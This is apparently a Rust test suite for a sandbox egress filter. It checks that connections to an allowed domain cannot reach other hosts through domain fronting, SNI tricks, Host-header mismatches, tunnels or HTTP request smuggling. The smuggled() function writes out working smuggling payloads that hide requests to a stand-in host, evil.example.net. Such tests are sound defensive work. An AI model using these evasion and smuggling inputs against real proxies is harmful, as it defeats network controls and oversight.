//! What the client says must fit the name that it resolved.

use super::{get, over_tcp, over_tls};
use crate::claim;
use crate::network::network;
use crate::trial::{Grants, Trial};
use serde_json::{Value, json};
use skillcell_tests::Cell;

/// 203.0.113.5 and 198.51.100.10 serve every name of the test network, so outside each trick works.
#[track_caller]
fn assert_denied_after_proof(trial: &Trial<'_>, tag: &str, steps: &[(&str, &str)]) {
    trial.prove();
    let before = network().arrived(tag).len();
    assert!(before > 0, "the counter-proof arrives");
    let report = trial.inside();
    for (step, reason) in steps {
        report.failed(step);
        report.denied("api.example.com", reason);
    }
    let arrived = network().arrived(tag);
    assert_eq!(
        arrived.len(),
        before,
        "this left the cell: {:#?}",
        &arrived[before..]
    );
}

claim! {
    /// Domain fronting, in the handshake and below it.
    fn another_server_name_than_the_resolved_one_is_denied(cell) {
        let tag = format!("{}-front", cell.mark());
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("other name", "tls", over_tls("api.example.com", Some("evil.example.net"), "api.example.com", &format!("/hello?tag={tag}")));
        assert_denied_after_proof(&trial, &tag, &[("other name", "tls_server_name_mismatch")]);
    }
}

claim! {
    fn a_handshake_without_a_server_name_is_denied(cell) {
        let tag = format!("{}-nosni", cell.mark());
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("none", "tls", over_tls("api.example.com", None, "api.example.com", &format!("/hello?tag={tag}")));
        assert_denied_after_proof(&trial, &tag, &[("none", "tls_no_server_name")]);
    }
}

/// A ClientHello for each name, made by hand; only the one for the resolved name may pass.
fn right_and_wrong<'a>(cell: &'a Cell, more: &Value) -> Trial<'a> {
    let mut trial = Trial::new(cell, Grants::domain("api.example.com"));
    for (step, sni) in [("right", "api.example.com"), ("wrong", "evil.example.net")] {
        let mut fields = json!({"host": "api.example.com", "sni": sni});
        for (name, value) in more.as_object().expect("fields") {
            fields[name] = value.clone();
        }
        trial = trial.step(step, "hello", fields);
    }
    trial
}

claim! {
    /// Filters that look at the first packet, or the first record, miss it.
    fn a_server_name_far_into_the_handshake_is_found(cell) {
        let shapes = [json!({"far": 1500}), json!({"far": 12000}), json!({"far": 12000, "crumbs": 1000})];
        for more in &shapes {
            let proof = right_and_wrong(cell, more).prove();
            assert!(proof.ok("wrong")["length"].as_u64() > more["far"].as_u64());
        }
        for more in &shapes {
            let report = right_and_wrong(cell, more).inside();
            report.ok("right");
            report.failed("wrong");
            report.denied("api.example.com", "tls_server_name_mismatch");
        }
    }
}

claim! {
    /// The name is put together from its records before anything passes.
    fn a_handshake_in_crumbs_is_put_together(cell) {
        let trial = right_and_wrong(cell, &json!({"crumbs": 32}));
        trial.prove();
        let report = trial.inside();
        report.ok("right");
        report.failed("wrong");
        report.denied("api.example.com", "tls_server_name_mismatch");
    }
}

claim! {
    /// The extension alone: whoever sends it may mean another name than the one that can be read.
    fn an_encrypted_hello_is_denied(cell) {
        let fields = json!({"host": "api.example.com", "sni": "api.example.com"});
        let mut encrypted = fields.clone();
        encrypted["encrypted"] = true.into();
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("plain", "hello", fields)
            .step("encrypted", "hello", encrypted);
        trial.prove();
        let report = trial.inside();
        report.ok("plain");
        report.failed("encrypted");
        report.denied("api.example.com", "tls_encrypted_hello");
    }
}

claim! {
    fn another_host_header_than_the_resolved_name_is_denied(cell) {
        let tag = format!("{}-host", cell.mark());
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("other", "connect", over_tcp("api.example.com", "evil.example.net", &format!("/hello?tag={tag}")));
        assert_denied_after_proof(&trial, &tag, &[("other", "http_host_mismatch")]);
    }
}

claim! {
    fn another_host_on_a_kept_alive_connection_is_denied(cell) {
        let tag = format!("{}-kept", cell.mark());
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("second", "connect", json!({
                "host": "api.example.com", "port": 80, "expect": "hello from evil.example.net",
                "send": [get("api.example.com", "/hello"), get("evil.example.net", &format!("/hello?tag={tag}"))],
            }))
            .step("at once", "connect", json!({
                "host": "api.example.com", "port": 80, "expect": "hello from evil.example.net",
                "send": [format!("{}{}", get("api.example.com", "/hello"), get("evil.example.net", &format!("/hello?tag={tag}"))), ""],
            }));
        let before = {
            let report = trial.outside();
            report.ok("second");
            network().arrived(&tag).len()
        };
        let report = trial.inside();
        report.failed("second");
        report.failed("at once");
        report.denied("api.example.com", "http_host_mismatch");
        assert_eq!(network().arrived(&tag).len(), before);
    }
}

claim! {
    fn an_absolute_target_that_differs_is_denied(cell) {
        let tag = format!("{}-absolute", cell.mark());
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("target", "connect", over_tcp("api.example.com", "api.example.com", &format!("http://evil.example.net/hello?tag={tag}")));
        assert_denied_after_proof(&trial, &tag, &[("target", "http_host_mismatch")]);
    }
}

/// Requests with two readings, each with a second request hidden in one of them.
fn smuggled(authority: &str, tag: &str) -> Vec<(&'static str, String)> {
    let hidden = get("evil.example.net", &format!("/hello?tag={tag}"));
    let head = |fields: &str| {
        format!("POST /echo?tag={tag} HTTP/1.1\r\nHost: {authority}\r\n{fields}\r\n")
    };
    vec![
        (
            "both lengths",
            format!(
                "{}0\r\n\r\n{hidden}",
                head("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n")
            ),
        ),
        (
            "two lengths",
            format!(
                "{}aaaaa{hidden}",
                head("Content-Length: 5\r\nContent-Length: 50\r\n")
            ),
        ),
        (
            "signed length",
            format!("{}aaaaa{hidden}", head("Content-Length: +5\r\n")),
        ),
        (
            "bad chunk size",
            format!(
                "{}0x5\r\naaaaa\r\n0\r\n\r\n{hidden}",
                head("Transfer-Encoding: chunked\r\n")
            ),
        ),
        (
            "chunk that is longer",
            format!(
                "{}3\r\naaaaa\r\n0\r\n\r\n{hidden}",
                head("Transfer-Encoding: chunked\r\n")
            ),
        ),
        (
            "odd coding",
            format!(
                "{}0\r\n\r\n{hidden}",
                head("Transfer-Encoding: xchunked\r\n")
            ),
        ),
        (
            "folded line",
            format!("{}{hidden}", head("X-A: b\r\n c: d\r\n")),
        ),
        (
            "bare line feed",
            format!("{}{hidden}", head("X-A: b\nX-C: d\r\n")),
        ),
        (
            "space before colon",
            format!("{}{hidden}", head("Content-Length : 5\r\n")),
        ),
        (
            "two hosts",
            format!("{}{hidden}", head("Host: evil.example.net\r\n")),
        ),
        (
            "NUL in a value",
            format!("{}{hidden}", head("X-A: b\0c\r\n")),
        ),
    ]
}

claim! {
    /// The server on 8082 takes whatever looks like a request for one: outside it gets the hidden ones.
    fn requests_with_two_readings_are_refused(cell) {
        let tag = format!("{}-smuggle", cell.mark());
        let rule = "{domains: [api.example.com], ports: [80, 8082]}";
        let (mut outside, mut inside) = (Trial::new(cell, Grants::none()), Trial::new(cell, Grants::egress(rule)));
        for (port, authority) in [(80, "api.example.com"), (8082, "api.example.com:8082")] {
            let send = |bytes: &str| json!({
                "host": "api.example.com", "port": port, "send": [bytes], "expect": "HTTP/1.1 200",
            });
            inside = inside.step(&format!("{port} well-formed"), "connect", send(&get(authority, "/hello")));
            for (name, bytes) in smuggled(authority, &tag) {
                inside = inside.step(&format!("{port} {name}"), "connect", send(&bytes));
                if port == 8082 {
                    outside = outside.step(name, "connect", send(&bytes));
                }
            }
        }
        let hidden = || {
            let mut arrived = network().arrived(&tag);
            arrived.retain(|a| a["host"].as_str().is_some_and(|h| h.contains("evil")));
            arrived.len()
        };
        outside.prove();
        let (shapes, before) = (smuggled("", &tag), hidden());
        assert!(before >= shapes.len(), "the counter-proof arrives: {before}");
        let report = inside.inside();
        for port in [80, 8082] {
            report.ok(&format!("{port} well-formed"));
            for (name, _) in &shapes {
                report.failed(&format!("{port} {name}"));
            }
        }
        report.denied("api.example.com:80", "http_malformed");
        report.denied("api.example.com:8082", "http_malformed");
        assert_eq!(hidden(), before);
    }
}

claim! {
    fn what_is_no_web_protocol_is_denied_on_web_ports(cell) {
        let send = |port: u16, bytes: &str| json!({"host": "api.example.com", "port": port, "send": [bytes]});
        let (ssh, text) = ("SSH-2.0-x\r\n", "\u{1}\u{2}\u{3}\u{4}tunnel");
        let trial = Trial::new(cell, Grants::domain("api.example.com"))
            .step("ssh", "connect", send(80, ssh))
            .step("text", "connect", send(80, text));
        // An answer is a complaint, and yet an answer.
        trial.prove();
        let report = trial
            .step("ssh on 443", "connect", send(443, ssh))
            .step("text on 443", "connect", send(443, text))
            .inside();
        for step in ["ssh", "text", "ssh on 443", "text on 443"] {
            report.failed(step);
        }
        for port in [80, 443] {
            let target = format!("api.example.com:{port}");
            report.denied_for_one_of(&target, &["protocol_not_allowed", "http_malformed", "tls_malformed"]);
        }
    }
}
